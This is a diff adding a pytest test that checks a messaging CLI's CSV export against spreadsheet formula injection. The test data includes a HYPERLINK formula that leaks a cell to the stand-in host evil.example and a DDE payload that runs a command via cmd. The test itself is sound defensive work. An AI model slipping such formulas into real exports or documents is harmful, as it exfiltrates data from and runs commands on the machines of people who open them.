@@ -6,6 +6,7 @@ import csv
 import io
 import json
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
 import pytest
 
@@ -170,3 +171,43 @@ def test_help_loads_no_database_lock_or_http_module(command: list[str]) -> None:
         [sys.executable, "-c", script], capture_output=True, text=True, check=True
     ).stdout
     assert loaded == ""
+
+
+# --- spreadsheet formulas in CSV (OWASP CSV injection) -------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+HARMLESS = ["plain text", "'already quoted", " =1+1 after a space", "+12125550100", "1+1"]
+
+
+def test_export_csv_neutralizes_formulas_and_keeps_phone_numbers(
+    cli: Cli, sandbox_http: Any, use_server: Any
+) -> None:
+    server = sandbox_http()
+    for text in FORMULAS + HARMLESS:
+        server.inject("+12125550100", text)
+    use_server(server)
+    assert cli("inbox", "pull", "12345", "-q").exit_code == 0
+
+    result = cli("inbox", "export", "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert [r["text"] for r in rows] == [f"'{t}" for t in FORMULAS] + HARMLESS
+    assert {r["from"] for r in rows} == {"+12125550100"}  # a number is not a formula: kept
+    for row in rows:
+        assert not any(cell[:1] in ("=", "-", "@", "\t", "\r") for cell in row.values())
+
+    # JSON lines stay the faithful backup.
+    exported = [json.loads(line)["text"] for line in cli("inbox", "export").lines]
+    assert exported == FORMULAS + HARMLESS
+
+
+def test_export_help_says_how_csv_cells_are_neutralized(cli: Cli) -> None:
+    shown = " ".join(cli("inbox", "export", "--help").stdout.split())
+    assert "single quote" in shown and "formula" in shown
